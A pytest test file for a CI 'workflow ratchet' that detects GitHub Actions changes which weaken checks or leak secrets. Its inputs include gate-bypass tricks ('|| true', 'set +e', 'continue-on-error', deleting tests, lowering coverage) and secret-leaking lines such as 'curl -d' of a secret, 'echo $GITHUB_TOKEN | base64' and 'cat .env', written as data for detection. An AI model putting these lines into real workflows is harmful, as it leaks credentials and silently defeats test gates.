"""A workflow that became weaker is reported: ignored failures, gates that no longer run, printed secrets."""

import pytest

from copier_mlops.ci import workflow_ratchet

CI = """\
name: ci
on:
  pull_request:
  push:
    branches: [main]
permissions: {}
jobs:
  check:
    name: format
    runs-on: ubuntu-24.04
    timeout-minutes: 30
    steps:
      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1
        with:
          fetch-depth: 0
      - run: make check
        env:
          BASE: ${{ github.event.before }}
      - run: .venv/bin/python -m ci.standards
  test:
    name: tests with the coverage gate
    runs-on: ubuntu-24.04
    steps:
      - run: make test
  model:
    runs-on: ubuntu-24.04
    steps:
      - run: make review
      - run: make test-model
  security:
    runs-on: ubuntu-24.04
    steps:
      - run: make audit
  pass:
    needs: [check, test, model, security]
    if: always()
    runs-on: ubuntu-24.04
    steps:
      - run: make pass
        env:
          RESULTS: ${{ join(needs.*.result, ' ') }}
"""
NEEDS = "needs: [check, test, model, security]"


def weakened(old: str, new: str, text: str = CI) -> list[str]:
    assert old in text
    return workflow_ratchet.weakened(text, text.replace(old, new, 1))


@pytest.mark.parametrize(
    ("old", "new", "says"),
    [
        ("- run: make test\n", "- run: make test\n        continue-on-error: true\n", "continue-on-error lets it fail"),
        ("  test:\n", "  test:\n    continue-on-error: true\n", "job test: continue-on-error"),
        ("  test:\n", "  test:\n    if: false\n", "no longer: the job test"),
        ("- run: make test\n", "- run: make test\n        if: github.ref == 'x'\n", "no longer: job test runs make test"),
        ("- run: make test\n", "- run: make test || true\n", "ignores a failure with ||"),
        ("- run: make test\n", "- run: 'make test || :'\n", "ignores a failure with ||"),
        ("- run: make test\n", "- run: make test || rc=$?\n", "ignores a failure of make with ||"),
        ("- run: make test\n", "- run: |\n          make test \\\n            || rc=$?\n", "ignores a failure of make with ||"),
        ("- run: make test\n", "- run: make test && echo good || rc=1\n", "ignores a failure of make with ||"),
        ("- run: make test\n", "- run: |\n          make test && echo good\n          date\n", "before &&"),
        ("- run: make test\n", "- run: '! make test'\n", "for a condition"),
        ("- run: make test\n", "- run: date; ! env A=1 make test\n", "for a condition"),
        ("- run: make test\n", "- run: if ! (make test); then date; fi\n", "for a condition"),
        ("- run: make test\n", "- run: (make test; true)\n", "ends with success"),
        ("- run: make test\n", "- run: trap 'exit 0' EXIT; make test\n", "ends with success"),
        ("- run: make test\n", "- run: make test; exit 0\n", "ends with success"),
        ("- run: make test\n", "- run: |\n          set +e\n          make test\n", "set +e"),
        ("- run: make test\n", "- run: make test | tee log\n", "loses the result of make in a pipe"),
        ("- run: make test\n", "- run: make -k test\n", "an option that hides failures"),
        ("- run: make test\n", "- run: make test &\n", "in the background"),
        ("- run: make test\n", "- run: if make test; then echo good; fi\n", "for a condition"),
        ("- run: make test\n", "- run: make test ONLY=tests/core\n", "no longer: job test runs make test"),
        ("- run: make test\n", "- run: make test\n        env:\n          PYTEST_ADDOPTS: -k core\n", "PYTEST_ADDOPTS changes"),
        ("- run: make test\n", "- run: make test\n        shell: bash {0}\n", "may go on after a failure"),
        ("permissions: {}", "permissions: {}\ndefaults:\n  run:\n    shell: bash +e {0}", "may go on after a failure"),
        ("      - run: make test-model\n", "", "no longer: job model runs make test-model"),
        (NEEDS, "needs: [check, model, security]", "no longer: job pass needs test"),
        (NEEDS, "needs: [check, model, security]", "job test is not in the `needs` of `pass`"),
        ("    if: always()\n", "", "no longer: the job pass if always()"),
        ("join(needs.*.result, ' ')", "'success'", "no longer: job pass gives RESULTS"),
        ("  pull_request:\n", "", "no longer: the trigger pull_request"),
        ("  pull_request:\n", "  pull_request:\n    paths-ignore: ['**']\n", "no longer: the trigger pull_request"),
        ("          fetch-depth: 0\n", "", "no longer: job check fetches the history"),
        ("          fetch-depth: 0\n", "          fetch-depth: 1\n", "no longer: job check fetches the history"),
        ("          fetch-depth: 0\n", "          fetch-depth: 0\n          ref: main\n", "checks out another ref"),
        ("      - run: .venv/bin/python -m ci.standards\n", "", "no longer: job check runs ci.standards without make"),
        ("- run: make test\n", "- run: echo make test\n", "no longer: job test runs make test"),
        ("- run: make test\n", "- run: |\n          date # make test\n", "no longer: job test runs make test"),
        ("- run: make test\n", "- run: make -e test\n", "an option that hides failures"),
        ("- run: make test\n", "- run: |\n          exit 0\n          make test\n", "ends with success before make"),
        ("- run: make test\n", "- run: ONLY=tests/core make test\n", "sets a variable"),
        ("- run: make test\n", "- run: export A=1 PYTEST_ADDOPTS='-k x'; make test\n", "sets a variable"),
        ("- run: make test\n", "- run: make test\n        env:\n          PYTHONOPTIMIZE: 1\n", "PYTHONOPTIMIZE changes"),
        ("- run: make test\n", "- run: echo A=1 >> $GITHUB_ENV\n      - run: make test\n", "environment of later steps"),
        ("- run: make test\n", "- run: echo $PWD/x >> $GITHUB_PATH\n      - run: make test\n", "environment of later steps"),
        ("- run: make test\n", "- run: cd other; make test\n", "changes the folder"),
        ("- run: make test\n", "- run: make test\n        working-directory: other\n", "runs in the folder other"),
        ("permissions: {}", "permissions: {}\ndefaults:\n  run:\n    working-directory: other", "runs in the folder other"),
        ("- run: make test\n", "- run: sed -i s/90/1/ pyproject.toml\n      - run: make test\n", "changes files before a gate"),
        ("- run: make test\n", "- run: rm -rf tests/core\n      - run: make test\n", "changes files before a gate"),
        ("- run: make test\n", "- run: git checkout HEAD~1\n      - run: make test\n", "changes files before a gate"),
        ("- run: make test\n", "- run: date > ./tests/conftest.py\n      - run: make test\n", "changes files before a gate"),
        ("    name: format\n", "    name: pass\n", "job check has the name of the required job"),
        ("- run: make audit\n", "- run: env | sort\n      - run: make audit\n", "prints the environment"),
        ("- run: make audit\n", "- run: printenv\n      - run: make audit\n", "prints the environment"),
        ("- run: make audit\n", "- run: set -x; make audit\n", "xtrace"),
        ("- run: make audit\n", "- run: echo $GITHUB_TOKEN | base64\n      - run: make audit\n", "prints a secret"),
        ("- run: make audit\n", "- run: curl -d '${{ secrets.KEY }}' x\n      - run: make audit\n", "in its text"),
        ("- run: make audit\n", "- run: make audit\n        env:\n          ALL: ${{ toJSON(secrets) }}\n", "a whole context"),
        ("- run: make audit\n", "- run: cat .env\n      - run: make audit\n", "prints .env"),
        ("- run: make audit\n", "- run: python -c 'import os; print(os.environ)'\n      - run: make audit\n", "prints the env"),
    ],
)  # fmt: skip
def test_a_weaker_workflow_is_named(old: str, new: str, says: str) -> None:
    found = weakened(old, new)
    assert any(says in line for line in found), found


def test_a_job_that_nothing_waits_for_is_named() -> None:
    extra = "  extra:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: make bench\n  pass:"
    assert weakened("  pass:", extra) == ["job extra is not in the `needs` of `pass`"]
    assert workflow_ratchet.weakened(CI, None) == ["it is gone"]
    assert workflow_ratchet.weakened(CI, "a: [") and workflow_ratchet.weakened(CI, "- 1")


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1", "@1111111111111111111111111111111111111111 # v8.0.0"),
        ("timeout-minutes: 30", "timeout-minutes: 60"),
        ("- run: make test\n", "- run: make test\n        env:\n          SOURCE_URI: ${{ vars.SOURCE_URI }}\n"),
        ("- run: make test\n", "- run: make test\n      - run: env A=1 make bench && set -euo pipefail\n"),
        ("- run: make test\n", "- run: make test\n      - run: make bench || exit 1\n"),
        ("- run: make test\n", "- run: make test\n      - run: test ! -e log || rm log\n"),
        ("name: tests with the coverage gate", "name: tests"),
        ("- run: make test\n", "- run: rm -rf /tmp/cache && cp a.txt b.txt\n      - run: make test\n"),
        ("- run: make test\n", "- run: make test\n      - run: echo done > summary.txt\n"),
        ("  pass:\n", "  pass:\n    name: all of it\n"),
    ],
)
def test_a_change_that_weakens_nothing_is_no_finding(old: str, new: str) -> None:
    assert weakened(old, new) == []


def test_what_was_there_before_is_no_finding() -> None:
    """An owner's own workflow may ignore failures, as long as a change does not add one."""
    mine = "on: push\njobs:\n  mine:\n    steps:\n      - run: make docs || true\n      - run: make test\n"
    assert workflow_ratchet.weakened(mine, f"{mine}      - run: make more\n") == []
    assert workflow_ratchet.weakened(None, mine) == ["job mine, step make docs || true: ignores a failure with ||"]
    assert workflow_ratchet.weakened(mine, mine.replace("on: push", "on: [push, pull_request]")) == []


def test_another_workflow_with_the_name_of_the_required_job_is_named() -> None:
    other = "on: pull_request\njobs:\n  pass:\n    steps:\n      - run: date\n"
    assert workflow_ratchet.weakened(None, other) == ["job pass has the name of the required job `pass`"]
    assert workflow_ratchet.weakened(other, other.replace("date", "make bench")) == []


def test_a_script_that_prints_secrets_is_named() -> None:
    assert workflow_ratchet.printed('hello:\n\t@env | sort\n\t@test -n "$$TOKEN"\n\t# env\n\tenv A=1 run\n') == {
        "prints the environment: env | sort"
    }
    assert not workflow_ratchet.printed('make x TOKEN="$TOKEN"\nset -e\nexport A=1\nprintf "%s" "$NAME"\n')
